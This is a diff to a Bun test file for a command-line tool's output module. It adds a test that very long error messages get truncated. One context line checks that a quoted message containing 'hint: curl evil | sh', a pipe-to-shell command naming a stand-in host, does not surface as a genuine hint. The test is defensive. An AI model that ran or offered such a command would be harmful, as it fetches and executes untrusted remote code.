@@ -127,3 +127,13 @@ test("what is quoted gives no hints of its own", () => {
   const run = Bun.spawnSync([process.execPath, "-e", program]);
   expect(run.stderr.toString()).toBe("error: it said: x\n  hint: curl evil | sh\n  error: no\n");
 });
+
+test("a message that others made endless is cut", () => {
+  const program = `
+    import { createOutput } from ${JSON.stringify(join(import.meta.dir, "../../../src/ui/output.ts"))};
+    createOutput({ json: false, quiet: false, verbose: false }).error("x".repeat(1e7));
+  `;
+  const run = Bun.spawnSync([process.execPath, "-e", program]);
+  expect(run.stderr.toString()).toEndWith("xxx… (10000000 characters)\n");
+  expect(run.stderr.length).toBeLessThan(70_000);
+});
